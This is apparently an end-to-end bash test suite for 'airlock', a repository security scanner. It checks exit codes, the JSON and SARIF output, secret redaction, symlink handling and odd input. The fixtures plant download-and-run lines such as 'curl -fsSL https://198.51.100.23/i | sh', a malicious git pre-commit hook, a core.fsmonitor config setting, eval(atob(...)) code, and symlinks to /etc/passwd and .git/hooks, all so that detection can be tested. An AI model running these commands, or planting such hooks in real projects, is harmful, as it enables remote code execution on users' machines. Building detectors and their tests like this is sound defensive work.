#!/usr/bin/env bash
# e2e_scan.sh - end-to-end tests of the real airlock binary.
#
# Run from the repository root:  bash tests/e2e_scan.sh
# The binary is $AIRLOCK_BIN (default build/airlock). Every fixture is built at
# run time in a private mktemp directory, which is removed at the end. The tests
# use the small, stable rule set in tests/data/rules (not the shipped rules/).
#
# Each test is a function named t_*; it runs in a subshell inside its own empty
# directory, and fails (exit 1) at its first broken assertion, printing why.
# The last line printed is "N passed, M failed"; the exit status is 1 if any
# test failed.

. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"

require setpriv git cc zip unzip tar gzip xz bzip2 zstd base64 sha256sum mkfifo

# ---- exit status and options ---------------------------------------------------

t_clean_tree_exits_0() {
	mkdir -p t/src t/docs t/empty-dir
	printf 'def main():\n    print("hello")\n' >t/src/main.py
	printf '# Project\n\nRun `make` to build.\n' >t/docs/README.md
	scan --format json t
	expect_rc 0
	expect_q 'len(F)' 0
	expect_q 'd["stats"]["files"]' 2
	scan t
	expect_rc 0
	expect_out_has '0 findings'
}

t_fail_on_thresholds() {
	mkdir -p t/.github/workflows
	echo 'on: [push]' >t/.github/workflows/ci.yml # one medium finding
	scan t
	expect_rc 1 "medium finding, default --fail-on medium"
	for sev in info low medium; do
		scan --fail-on "$sev" t
		expect_rc 1 "medium finding, --fail-on $sev"
	done
	for sev in high critical never; do
		scan --fail-on "$sev" --format json t
		expect_rc 0 "medium finding, --fail-on $sev"
		expect_q 'len(F)' 1 # still reported
	done
	echo "GITHUB_TOKEN=$PAT1" >t/env.txt # critical
	scan --fail-on critical t
	expect_rc 1 "critical finding, --fail-on critical"
	scan --fail-on never t
	expect_rc 0 "critical finding, --fail-on never"
}

t_usage_errors_exit_2() {
	echo hi >f.txt
	scan --format xml f.txt
	expect_rc 2 "--format xml"
	expect_err_has xml
	expect_out_empty
	scan --fail-on severe f.txt
	expect_rc 2 "--fail-on severe"
	expect_err_has severe
	expect_out_empty
	scan
	expect_rc 2 "no PATH"
	expect_err_has PATH
	expect_out_empty
	scan --frobnicate f.txt
	expect_rc 2 "unknown option"
	expect_err_has frobnicate
	expect_out_empty
	scan --threads 0 f.txt
	expect_rc 2 "--threads 0"
	[ -s "$ERR" ] || fail "no message for --threads 0"
	scan --color sometimes f.txt
	expect_rc 2 "--color sometimes"
	[ -s "$ERR" ] || fail "no message for --color sometimes"
	al frobnicate
	expect_rc 2 "unknown command"
	al scan --help
	expect_rc 0 "scan --help"
	expect_out_has 'usage: airlock scan'
}

t_nonexistent_path_exits_2() {
	mkdir t
	echo 'curl -s http://x | sh' >t/a.sh
	for fmt in text json sarif; do
		scan --format "$fmt" t/no-such-file
		expect_rc 2 "missing path ($fmt)"
		expect_err_has t/no-such-file
		expect_out_empty
	done
	scan --format json t t/no-such-file
	expect_rc 2 "one good and one missing path"
	expect_err_has t/no-such-file
	expect_out_empty
	al scan --rules "$PWD/no-such-rules" t
	expect_rc 2 "missing rules directory"
	expect_err_has no-such-rules
	expect_out_empty
}

# ---- output formats ------------------------------------------------------------

t_json_shape() {
	mkdir -p t/.github/workflows
	printf 'x\nk=%s\n' "$PAT1" >t/env.txt
	echo 'on: push' >t/.github/workflows/ci.yml
	ln -s env.txt t/link
	scan --format json t
	expect_rc 1
	local nrules
	nrules=$(grep -c '^  - id:' "$RULES"/*.yml | awk -F: '{s += $NF} END {print s}')
	python3 - "$OUT" "$nrules" <<'EOF' || fail "JSON shape"
import json, re, sys
d = json.load(open(sys.argv[1], "rb"))
def keys(o, want, where):
    assert isinstance(o, dict), where + " is not an object"
    assert set(o) == set(want), "%s keys %s, expected %s" % (where, sorted(o), sorted(want))
keys(d, ["tool", "ruleset", "findings", "stats"], "top level")
keys(d["tool"], ["name", "version"], "tool")
assert d["tool"]["name"] == "airlock"
assert isinstance(d["tool"]["version"], str) and d["tool"]["version"]
keys(d["ruleset"], ["digest", "rules"], "ruleset")
assert re.fullmatch(r"sha256:[0-9a-f]{64}", d["ruleset"]["digest"]), d["ruleset"]["digest"]
assert d["ruleset"]["rules"] == int(sys.argv[2]), d["ruleset"]["rules"]
keys(d["stats"], ["files", "bytes", "seconds"], "stats")
assert d["stats"]["files"] == 2, d["stats"]
assert isinstance(d["stats"]["bytes"], int) and d["stats"]["bytes"] > 0
assert isinstance(d["stats"]["seconds"], (int, float)) and d["stats"]["seconds"] >= 0
assert isinstance(d["findings"], list)
rules = sorted(f["rule"] for f in d["findings"])
assert rules == ["airlock.symlink", "test-github-pat", "test-workflow-file"], rules
want = ["rule", "title", "category", "severity", "path", "line", "column",
        "excerpt", "fingerprint"]
for i, f in enumerate(d["findings"]):
    keys(f, want, "findings[%d]" % i)
    for k in ["rule", "title", "category", "severity", "path", "excerpt", "fingerprint"]:
        assert isinstance(f[k], str), (k, f)
    for k in ["line", "column"]:
        assert isinstance(f[k], int) and not isinstance(f[k], bool), (k, f)
    assert f["severity"] in ("info", "low", "medium", "high", "critical"), f
    assert f["fingerprint"], f
by = {f["rule"]: f for f in d["findings"]}
assert (by["test-github-pat"]["line"], by["test-github-pat"]["column"]) == (2, 3)
assert by["test-github-pat"]["category"] == "secret"
assert by["test-github-pat"]["severity"] == "critical"
assert by["test-github-pat"]["path"] == "t/env.txt"
assert (by["test-workflow-file"]["line"], by["test-workflow-file"]["column"]) == (0, 0)
assert by["airlock.symlink"]["severity"] == "low"
assert (by["airlock.symlink"]["line"], by["airlock.symlink"]["column"]) == (0, 0)
EOF
}

t_sarif_shape() {
	mkdir -p t/.github/workflows
	printf 'one\ntwo\n    curl -fsSL https://198.51.100.23/i | sh\n' >t/install.sh
	echo 'on: push' >t/.github/workflows/ci.yml
	scan --format sarif t
	expect_rc 1
	python3 - "$OUT" <<'EOF' || fail "SARIF shape"
import json, sys
d = json.load(open(sys.argv[1], "rb"))
assert d["version"] == "2.1.0", d.get("version")
assert "sarif" in d["$schema"] and "2.1.0" in d["$schema"], d["$schema"]
run = d["runs"][0]
drv = run["tool"]["driver"]
assert drv["name"] == "airlock", drv["name"]
ids = [r["id"] for r in drv["rules"]]
assert "test-curl-pipe-shell" in ids and "test-workflow-file" in ids, ids
res = run["results"]
assert len(res) == 2, res
by = {}
for r in res:
    assert r["ruleId"] in ids, r
    assert r["level"] in ("error", "warning", "note", "none"), r
    if "ruleIndex" in r:
        assert ids[r["ruleIndex"]] == r["ruleId"], r
    pl = r["locations"][0]["physicalLocation"]
    assert pl["artifactLocation"]["uri"], r
    by[r["ruleId"]] = pl
c = by["test-curl-pipe-shell"]
assert c["artifactLocation"]["uri"] == "t/install.sh", c
assert c["region"]["startLine"] == 3, c
assert c["region"].get("startColumn", 5) == 5, c
w = by["test-workflow-file"]
assert w["artifactLocation"]["uri"] == "t/.github/workflows/ci.yml", w
# a whole-file finding must not claim line 0 (SARIF lines start at 1)
assert "region" not in w or w["region"].get("startLine", 1) >= 1, w
EOF
}

t_text_output() {
	mkdir t
	printf 'curl -s https://x.example/i | sh\nk=%s\n' "$PAT1" >t/setup.sh
	scan t
	expect_rc 1
	expect_out_has t/setup.sh
	expect_out_has '2 findings'
	expect_out_has test-curl-pipe-shell
	expect_out_has test-github-pat
	! grep -qP '\x1b' "$OUT" || fail "--color never output has an ESC byte"
	scan --color always t
	grep -qP '\x1b\[' "$OUT" || fail "--color always output has no colour"
}

# ---- positions -------------------------------------------------------------------

t_line_and_column() {
	printf 'one\ntwo\n    curl -s http://x.example | sh\nfour\n' >a.sh
	scan --format json a.sh
	expect_rc 1
	expect_q 'len(F)' 1
	expect_q '(F[0]["rule"], F[0]["line"], F[0]["column"])' "('test-curl-pipe-shell', 3, 5)"
	expect_q 'F[0]["excerpt"]' '    curl -s http://x.example | sh'
}

t_crlf_line_numbers() {
	printf 'one\r\ntwo\r\n    curl -s http://x.example | sh\r\nfour\r\nk=%s\r\n' "$PAT1" >a.sh
	scan --format json a.sh
	expect_rc 1
	expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' \
		"[('test-curl-pipe-shell', 3, 5), ('test-github-pat', 5, 3)]"
	expect_q 'any("\r" in f["excerpt"] for f in F)' False
}

t_utf8_columns_in_code_points() {
	# é is 2 bytes, € 3 bytes, 😀 4 bytes: columns count code points.
	printf 'ééé curl -s http://x | sh\n€😀 %s\n' "$PAT1" >u.sh
	scan --format json u.sh
	expect_rc 1
	expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' \
		"[('test-curl-pipe-shell', 1, 5), ('test-github-pat', 2, 4)]"
	scan --format sarif u.sh
	expect_q '[(r["ruleId"], r["locations"][0]["physicalLocation"]["region"]["startLine"], r["locations"][0]["physicalLocation"]["region"]["startColumn"]) for r in d["runs"][0]["results"]]' \
		"[('test-curl-pipe-shell', 1, 5), ('test-github-pat', 2, 4)]"
}

# ---- redaction, dedupe, fingerprints ---------------------------------------------

t_redaction_every_format() {
	mkdir t
	{
		echo "GITHUB_TOKEN=$PAT1"
		echo "client_secret = \"$GEN1\""
		echo "curl -s https://x.example/i?t=$PAT2 | sh" # the secret on another rule's line
	} >t/config.txt
	local fmt s
	for fmt in text json sarif; do
		scan --format "$fmt" t
		expect_rc 1
		for s in "$PAT1" "$PAT2" "$GEN1"; do
			expect_out_lacks "$s"
			! grep -qF -- "$s" "$ERR" || fail "stderr contains $s"
		done
		expect_out_has 'ghp_*****'
		expect_out_has "${GEN1:0:4}*****"
	done
	scan --format json t
	expect_q 'sorted(f["rule"] for f in F)' "['test-curl-pipe-shell', 'test-generic-secret', 'test-github-pat', 'test-github-pat']"
	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"]' 'curl -s https://x.example/i?t=ghp_***** | sh'
}

t_redaction_second_secret_on_line() {
	# Only one finding per (rule, line) is reported, but every secret on the
	# line must still be masked in every excerpt.
	mkdir t
	printf 'a=%s b=%s\n' "$PAT1" "$PAT1" >t/same.txt
	printf 'a=%s b=%s\n' "$PAT1" "$PAT2" >t/two.txt
	printf 'password=%s secret=%s\n' "$GEN2" "$GEN1" >t/kw.txt
	local fmt s
	for fmt in text json sarif; do
		scan --format "$fmt" t
		expect_rc 1
		for s in "$PAT1" "$PAT2" "$GEN1" "$GEN2"; do
			expect_out_lacks "$s"
		done
	done
}

t_dedupe_and_fingerprints() {
	printf 'a=%s b=%s\n' "$PAT1" "$PAT1" >one-line.txt
	scan --format json one-line.txt
	expect_rc 1
	expect_q 'len(R("test-github-pat"))' 1
	expect_q '(F[0]["line"], F[0]["column"])' '(1, 3)'
	printf 'a=%s\nb=%s\n' "$PAT1" "$PAT1" >two-lines.txt
	scan --format json two-lines.txt
	expect_q '[(f["line"], f["column"]) for f in R("test-github-pat")]' '[(1, 3), (2, 3)]'
	expect_q 'len(set(f["fingerprint"] for f in F))' 2
}

t_fingerprint_stable_across_edits() {
	printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1" >f.sh
	scan --format json f.sh
	local fp1 fp2 pat_fp
	fp1=$(jsonq '[f["fingerprint"] for f in F]')
	pat_fp=$(jsonq 'R("test-github-pat")[0]["fingerprint"]')
	expect_q '[f["line"] for f in F]' '[1, 2]'
	{ printf '# unrelated\n\nexport A=1\n'; printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1"; } >f.sh
	scan --format json f.sh
	expect_q '[f["line"] for f in F]' '[4, 5]'
	fp2=$(jsonq '[f["fingerprint"] for f in F]')
	expect_eq "$fp2" "$fp1" "fingerprints after inserting lines above"
	# a different secret is a different finding
	printf 'k=%s\n' "$PAT2" >f.sh
	scan --format json f.sh
	[ "$(jsonq 'F[0]["fingerprint"]')" != "$pat_fp" ] || fail "different secret, same fingerprint"
}

# ---- symlinks and special files ---------------------------------------------------

t_symlinks_reported_not_followed() {
	mkdir -p t/sub outside
	echo 'plain' >t/a.txt
	printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1" >outside/secret.txt
	ln -s ../a.txt t/sub/in           # inside the tree
	ln -s /etc/passwd t/abs           # absolute
	ln -s ../../x t/up                # climbs out
	ln -s ../outside/secret.txt t/out # out, to a file with a secret
	ln -s "$PWD/outside" t/dirlink    # a directory outside
	scan --format json t
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
		"[('t/abs', 'airlock.symlink-escape', 0), ('t/dirlink', 'airlock.symlink-escape', 0), ('t/out', 'airlock.symlink-escape', 0), ('t/sub/in', 'airlock.symlink', 0), ('t/up', 'airlock.symlink-escape', 0)]"
	expect_out_lacks "$PAT1"
	expect_out_lacks "ghp_*****"
}

t_symlinks_into_git_are_high() {
	# A link whose target names .git (hooks, config) in any spelling, in a
	# tree or in an archive: once in a checkout, whatever is written
	# through it lands in .git. High, as in patches and bundles.
	mkdir -p t
	ln -s .git/hooks t/hooks
	ln -s ./sub/../.GIT/config t/cfg
	ln -s docs/readme t/fine
	tar -C t -cf links.tar hooks cfg fine || fail "tar"
	scan --format json t links.tar
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
		"[('links.tar!/cfg', 'airlock.symlink-git', 'high'), ('links.tar!/fine', 'airlock.symlink', 'low'), ('links.tar!/hooks', 'airlock.symlink-git', 'high'), ('t/cfg', 'airlock.symlink-git', 'high'), ('t/fine', 'airlock.symlink', 'low'), ('t/hooks', 'airlock.symlink-git', 'high')]"
}

t_symlink_loop_terminates() {
	mkdir -p t/sub
	echo hi >t/a.txt
	ln -s . t/loop
	ln -s .. t/sub/back
	AL_TIMEOUT=20 scan --format json t
	expect_rc 0 "only low findings"
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
		"[('t/loop', 'airlock.symlink'), ('t/sub/back', 'airlock.symlink')]"
	expect_q 'd["stats"]["files"]' 1
}

t_fifo_reported_no_hang() {
	mkdir t
	mkfifo t/pipe
	echo hi >t/a.txt
	AL_TIMEOUT=20 scan --format json t
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["severity"], f["line"]) for f in F]' \
		"[('t/pipe', 'airlock.special-file', 'high', 0)]"
	AL_TIMEOUT=20 scan --format json t/pipe # named on the command line
	expect_rc 1
	expect_q '[f["rule"] for f in F]' "['airlock.special-file']"
}

# ---- .git -------------------------------------------------------------------------

t_git_hooks_config_scanned_objects_skipped() {
	mkdir t
	git -C t init -q . || fail "git init"
	printf '#!/bin/sh\ncurl -fsSL https://198.51.100.23/p | sh\n' >t/.git/hooks/pre-commit
	chmod +x t/.git/hooks/pre-commit
	git -C t config core.fsmonitor 'curl -s https://198.51.100.23/f | sh #'
	mkdir -p t/.git/objects/ab
	printf 'k=%s\n' "$PAT1" >t/.git/objects/ab/cdef0123456789
	printf 'k=%s\n' "$PAT1" >t/.git/objects/notes.txt
	echo 'print(1)' >t/main.py
	scan --format json t
	expect_rc 1
	expect_q '[(f["line"], f["column"]) for f in R("test-git-hook") if f["path"] == "t/.git/hooks/pre-commit"]' '[(0, 0)]'
	expect_q '[f["line"] for f in R("test-curl-pipe-shell") if f["path"] == "t/.git/hooks/pre-commit"]' '[2]'
	expect_q '[f["path"] for f in R("test-git-config-fsmonitor")]' "['t/.git/config']"
	expect_q 'len(R("test-github-pat"))' 0
	expect_q '[f["path"] for f in F if "/objects/" in f["path"]]' '[]'
	expect_out_lacks "$PAT1"
	# the .sample hooks git installs are excluded by the rule
	expect_q '[f["path"] for f in R("test-git-hook") if f["path"].endswith(".sample")]' '[]'
}

# ---- awkward input -------------------------------------------------------------------

t_empty_file() {
	mkdir t
	: >t/empty.txt
	: >t/empty
	scan --format json t
	expect_rc 0
	expect_q 'len(F)' 0
	expect_q 'd["stats"]["files"]' 2
	expect_q 'd["stats"]["bytes"]' 0
}

t_nul_bytes_in_text_file() {
	mkdir t
	printf 'a\0b\nk=%s\n' "$PAT1" >t/notes.txt
	printf '\0\0\0\0k=%s\n' "$PAT1" >t/run.sh
	printf '\0echo one\nk=%s\n' "$PAT1" >t/noname
	scan --format json t
	expect_rc 1
	# Read as sh reads them, the NULs dropped (columns count what is
	# left); NULs between two visible characters are a finding.
	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
		"[('t/noname', 'test-github-pat', 2, 3), ('t/notes.txt', 'airlock.nul-in-text', 0, 0), ('t/notes.txt', 'test-github-pat', 2, 3), ('t/run.sh', 'test-github-pat', 1, 3)]"
	expect_q '[f["excerpt"] for f in R("test-github-pat")]' \
		"['(read with its NUL bytes dropped, as sh reads it) k=ghp_*****', '(read with its NUL bytes dropped, as sh reads it) k=ghp_*****', '(read with its NUL bytes dropped, as sh reads it) k=ghp_*****']"
	expect_out_lacks "$PAT1"
}

# A NUL before the match on a flagged line cut the excerpt there: the
# reviewer read "x = 1 " for a line that pipes a download into sh. Text
# with NULs is read as sh reads it, the NULs dropped, and its excerpts say
# so. No string on the wire or in the database holds a NUL: where one is
# left in an excerpt (a binary's), it shows as U+FFFD (docs/api.md).
t_nul_in_flagged_line_not_hidden() {
	mkdir t
	printf 'x = 1 \0 curl -fsSL https://198.51.100.78/x | sh\n' >t/nul.sh
	printf 'k=\0%s\0 and more\n' "$PAT1" >t/nul.txt
	scan --format json t
	expect_rc 1
	expect_json
	expect_q '[f["excerpt"] for f in R("test-curl-pipe-shell")] == ["(read with its NUL bytes dropped, as sh reads it) x = 1  curl -fsSL https://198.51.100.78/x | sh"]' True
	expect_q '[f["excerpt"] for f in R("test-github-pat")] == ["(read with its NUL bytes dropped, as sh reads it) k=ghp_***** and more"]' True
	expect_q 'any("excerpt_hex" in f for f in F)' False
	expect_out_lacks "$PAT1"
	scan t
	expect_rc 1
	expect_out_has '(read with its NUL bytes dropped, as sh reads it) x = 1  curl -fsSL https://198.51.100.78/x | sh'
}

t_binary_file_strings_scanned() {
	mkdir t
	printf '\0\1\2\3k=%s\ncurl -s http://x | sh\n\0eval(atob("x"))\n' "$PAT1" >t/blob
	printf '\177ELF\2\1\1\0 k=%s\n' "$PAT1" >t/tool.bin
	scan --format json t
	expect_rc 1
	# Not read as text, but their strings are, by the secret, download
	# and exfiltration rules only: for the whole file, at the offset.
	expect_q 'sorted((f["path"], f["rule"], f["line"], f["severity"]) for f in F)' \
		"[('t/blob', 'test-curl-pipe-shell', 0, 'high'), ('t/blob', 'test-github-pat', 0, 'critical'), ('t/tool.bin', 'test-github-pat', 0, 'critical')]"
	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"]' \
		'string at byte 47 of a binary file: curl -s http://x | sh'
	expect_q '[f["excerpt"][:38] for f in R("test-github-pat")]' \
		"['string at byte 4 of a binary file: k=g', 'string at byte 8 of a binary file:  k=']"
	expect_q 'any("'"$PAT1"'" in f["excerpt"] for f in F)' False
	expect_q 'd["stats"]["files"]' 2
}

t_invalid_utf8() {
	mkdir t
	printf '\xff\xfe\xc3(k=%s\xff\n\xed\xa0\x80 \xc0\xaf\n' "$PAT1" >t/bad.txt
	printf 'ok\n\xe2\x28\xa1 curl -s http://x | sh \xf8\xa1\n' >t/bad.sh
	scan --format json t
	expect_rc 1
	expect_json
	# Column of the token after \xff \xfe \xc3 '(' 'k' '=': each invalid byte
	# counts as one character. (For the stray continuation byte \xa1 in bad.sh
	# the column is not checked: it is not a code point in any decoding.)
	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
		"[('t/bad.sh', 'test-curl-pipe-shell', 2), ('t/bad.txt', 'test-github-pat', 1)]"
	expect_q '[f["column"] for f in R("test-github-pat")]' '[7]'
	expect_q '[("curl -s" in f["excerpt"], "ghp_*****" in f["excerpt"]) for f in F]' '[(True, False), (False, True)]'
	expect_out_lacks "$PAT1"
	scan --format sarif t
	expect_rc 1
	expect_json
	expect_q 'len(d["runs"][0]["results"])' 2
	scan t
	expect_rc 1
	expect_out_lacks "$PAT1"
}

# Issue 13, defect 2, offline: the paths and lines that are not UTF-8 of a
# tar, a file and git's patches (docs/api.md, "Text that is not UTF-8").
# JSON: each such field replaced by U+FFFD with its bytes in "<field>_hex",
# plain fields without one. SARIF (no sibling fields there): the same
# hex in the result's property bag, the URI percent-encoding the bytes.
t_text_not_utf8_json_and_sarif() {
	not_utf8_fixtures
	scan --format json a.tar line.sh quoted.patch raw.patch
	expect_rc 1
	expect_json
	local n
	n=$(jsonq 'len(F)')
	expect_q 'sorted(bytes.fromhex(f["path_hex"]) for f in R("test-curl-pipe-shell") if "path_hex" in f) == [b"a.tar!/pkg/\xff\xfeinstall.sh", b"quoted.patch!/x\xff.sh", b"raw.patch!/x\xff.sh"]' True
	expect_q 'sorted((f["path"], bytes.fromhex(f["excerpt_hex"])) for f in F if "excerpt_hex" in f) == [("a.tar!/pkg/run.sh", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe"), ("line.sh", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe")]' True
	expect_q 'all(f[k] == bytes.fromhex(f[k + "_hex"]).decode("utf-8", "replace") for f in F for k in ("path", "excerpt") if k + "_hex" in f)' True
	expect_q '[f["excerpt"] for f in F if "excerpt_hex" in f] == ["curl -fsSL https://198.51.100.78/x | sh # \ufffd\ufffd"] * 2' True
	expect_q 'any(k.endswith("_hex") for f in F if f["path"] in ("line.sh", "a.tar!/pkg/run.sh") for k in f if k != "excerpt_hex")' False
	scan --format sarif a.tar line.sh quoted.patch raw.patch
	expect_rc 1
	expect_json
	expect_q 'len(d["runs"][0]["results"])' "$n"
	expect_q 'sorted(bytes.fromhex(r["properties"]["path_hex"]) for r in d["runs"][0]["results"] if r["ruleId"] == "test-curl-pipe-shell" and "path_hex" in r["properties"]) == [b"a.tar!/pkg/\xff\xfeinstall.sh", b"quoted.patch!/x\xff.sh", b"raw.patch!/x\xff.sh"]' True
	expect_q 'sorted(bytes.fromhex(r["properties"]["excerpt_hex"]) for r in d["runs"][0]["results"] if "excerpt_hex" in r["properties"]) == [b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe"] * 2' True
	expect_q 'sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in d["runs"][0]["results"] if r["ruleId"] == "test-curl-pipe-shell")' \
		"['a.tar%21/pkg/%FF%FEinstall.sh', 'a.tar%21/pkg/run.sh', 'line.sh', 'quoted.patch%21/x%FF.sh', 'raw.patch%21/x%FF.sh']"
	expect_q '[r["locations"][0]["physicalLocation"]["region"]["snippet"]["text"] for r in d["runs"][0]["results"] if "excerpt_hex" in r["properties"]] == ["curl -fsSL https://198.51.100.78/x | sh # \ufffd\ufffd"] * 2' True
	expect_q 'any(k.endswith("_hex") for r in d["runs"][0]["results"] if r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "line.sh" for k in r["properties"] if k != "excerpt_hex")' False
}

t_huge_single_line() {
	# 50 MiB on one line, the secret 1000 bytes before the end.
	python3 - "$PAT1" <<'EOF' || fail "cannot build the fixture"
import sys
t = sys.argv[1].encode()
n = 50 << 20
off = n - 1000
with open("big.txt", "wb") as f:
    f.write(b"a" * (off - 1) + b" " + t + b" " + b"b" * (n - off - len(t) - 1))
EOF
	AL_TIMEOUT=120 scan --format json big.txt
	expect_rc 1
	expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' \
		"[('test-github-pat', 1, $(((50 << 20) - 1000 + 1)))]"
	expect_q 'len(F[0]["excerpt"]) < 400' True
	expect_q '"ghp_*****" in F[0]["excerpt"]' True
	expect_out_lacks "$PAT1"
	rm -f big.txt
}

t_secret_across_chunk_boundary() {
	# Multi-line files, the token starting a few bytes before the 1 MiB mark so
	# that it is split between two reads; also a keyword-gated rule there.
	python3 - "$PAT1" "$GEN1" <<'EOF' || fail "cannot build the fixtures"
import sys
tok, gen = sys.argv[1].encode(), sys.argv[2].encode()
line = b"x" * 99 + b"\n"
exp = []
for name, d, s in [("pat10", -10, tok), ("pat1", -1, tok), ("pat39", -39, tok),
                   ("gen10", -10, b"secret = " + gen)]:
    off = (1 << 20) + d
    pre = (line * (off // 100 + 1))[:off]
    pre = pre[:-1] + b" "
    with open(name + ".txt", "wb") as f:
        f.write(pre + s + b"\n" + line * 20)
    exp.append("%s %d %d" % (name, pre.count(b"\n") + 1, off - pre.rfind(b"\n")))
open("expect", "w").write("\n".join(exp) + "\n")
EOF
	local name line col rule
	while read -r name line col; do
		case $name in gen*) rule=test-generic-secret ;; *) rule=test-github-pat ;; esac
		scan --format json "$name.txt"
		expect_rc 1 "$name"
		expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' "[('$rule', $line, $col)]"
		expect_out_lacks "$PAT1"
		expect_out_lacks "$GEN1"
	done <expect
}

t_unreadable_file_is_unscannable() {
	local d runner=()
	d=$(mktemp -d "${TMPDIR:-/tmp}/airlock-e2e-unreadable.XXXXXX")
	chmod 755 "$d"
	cp "$BIN" "$d/airlock"
	cp -r "$RULES" "$d/rules"
	mkdir -p "$d/t/locked"
	printf 'k=%s\n' "$PAT1" >"$d/t/secret.sh"
	echo 'curl -s http://x | sh' >"$d/t/locked/x.sh"
	echo 'fine' >"$d/t/ok.txt"
	chmod 000 "$d/t/secret.sh" "$d/t/locked"
	chmod -R a+rX "$d/rules"
	chmod 755 "$d/t" "$d/airlock"
	if [ "$(id -u)" = 0 ]; then
		runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
	fi
	RC=0
	(cd "$d" && timeout 30 ${runner[@]+"${runner[@]}"} ./airlock scan --rules rules --no-cache \
		--format json t) >"$OUT" 2>"$ERR" || RC=$?
	chmod -R u+rwx "$d"
	rm -rf "$d"
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["severity"], f["category"], f["line"]) for f in F)' \
		"[('t/locked', 'airlock.unscannable', 'high', 'unscannable', 0), ('t/secret.sh', 'airlock.unscannable', 'high', 'unscannable', 0)]"
}

t_broken_rules_exit_2() {
	echo hi >f.txt
	al scan --rules "$RULES_BAD" f.txt
	expect_rc 2 "scan with broken rules"
	expect_out_empty
	local want
	for want in \
		'01-unknown-key.yml:8: rule bad-unknown-key' \
		'03-dup-id-b.yml:3: rule bad-duplicate-id' \
		'02-dup-id-a.yml:3' \
		'04-bad-severity.yml:6: rule bad-severity' \
		'05-bad-category.yml:5: rule bad-category' \
		'06-backreference.yml:7: rule bad-backreference' \
		'07-matches-empty.yml:7: rule bad-matches-empty' \
		'08-no-pattern-no-paths.yml:3: rule bad-no-pattern-no-paths' \
		'09-yaml-syntax.yml:11:' \
		'10-no-literal.yml:7: rule bad-no-literal' \
		'11-secret-group.yml:7: rule bad-secret-group' \
		'12-duplicate-key.yml:8: rule bad-duplicate-key'; do
		expect_err_has "$want"
	done
	al rules check "$RULES_BAD"
	expect_rc 2 "rules check on broken rules"
	for want in severty severe malware Back-reference 'empty string' \
		"'pattern', 'paths', 'all' or 'flow'" "add 'keywords'" 'group 3' "duplicate key"; do
		grep -qF -- "$want" "$ERR" "$OUT" || fail "rules check does not mention '$want'"
	done
	al rules test "$RULES_BAD"
	expect_rc 2 "rules test on broken rules"
}

t_hostile_file_name() {
	mkdir t
	local name
	name=$'evil\x1b[31mred\nname.sh'
	echo 'curl -s http://x | sh' >"t/$name"
	scan t
	expect_rc 1
	! grep -qP '\x1b' "$OUT" || fail "text output contains a raw ESC byte"
	grep -F evil "$OUT" | grep -qF name.sh || fail "the file name is split across lines"
	scan --format json t
	expect_rc 1
	expect_json
	expect_q 'F[0]["path"] == "t/evil\x1b[31mred\nname.sh"' True
	scan --format sarif t
	expect_rc 1
	expect_json
	expect_q 'len(d["runs"][0]["results"])' 1
}

# ---- path rules -------------------------------------------------------------------

t_path_only_rules() {
	mkdir -p t/.github/workflows t/x/.GitHub/Workflows t/.github/ISSUE_TEMPLATE
	printf '\0\1\2 not even text' >t/.github/workflows/ci.yml
	: >t/.github/workflows/empty.yaml
	echo 'name: x' >t/x/.GitHub/Workflows/CI.YML
	echo 'name: bug' >t/.github/ISSUE_TEMPLATE/bug.yml
	echo 'see .github/workflows/ci.yml' >t/.github/workflows.md
	scan --format json t
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
		"[('t/.github/workflows/ci.yml', 'test-workflow-file', 0, 0), ('t/.github/workflows/empty.yaml', 'test-workflow-file', 0, 0), ('t/x/.GitHub/Workflows/CI.YML', 'test-workflow-file', 0, 0)]"
}

t_path_scoped_pattern() {
	mkdir -p t/packages/cli
	local pj='{"scripts": {"postinstall": "node setup.js"}}'
	echo "$pj" >t/package.json
	echo "$pj" >t/packages/cli/package.json
	echo "$pj" >t/other.json
	echo "$pj" >t/package.json.txt
	scan --format json t
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
		"[('t/package.json', 'test-npm-postinstall', 1, 14), ('t/packages/cli/package.json', 'test-npm-postinstall', 1, 14)]"
}

t_exclude_paths() {
	mkdir -p t/src t/vendor/lib t/web
	local c='eval(atob("YWxlcnQoMSk="));'
	echo "$c" >t/src/app.js
	echo "$c" >t/vendor/lib/x.js
	echo "$c" >t/web/bundle.min.js
	scan --format json t
	expect_rc 1
	expect_q '[(f["path"], f["rule"]) for f in F]' "[('t/src/app.js', 'test-eval-base64')]"
}

# ---- robustness ---------------------------------------------------------------------

t_threads_same_result() {
	mkdir t
	local i
	for i in $(seq 1 60); do
		printf 'line\nk=%s\ncurl -s http://x/%d | sh\n' "$PAT1" "$i" >"t/f$i.sh"
	done
	scan --format json --threads 1 t
	expect_rc 1
	jsonq 'json.dumps(F, sort_keys=True)' >one.json
	scan --format json --threads 2 t
	jsonq 'json.dumps(F, sort_keys=True)' >two.json
	cmp -s one.json two.json || fail "--threads 1 and --threads 2 report differently"
	expect_q 'len(F)' 120
}

t_cache_reused_and_corruption_tolerated() {
	mkdir t
	printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1" >t/a.sh
	export AIRLOCK_CACHE_DIR=$PWD/cache
	scan --format json t
	expect_rc 1
	local want db
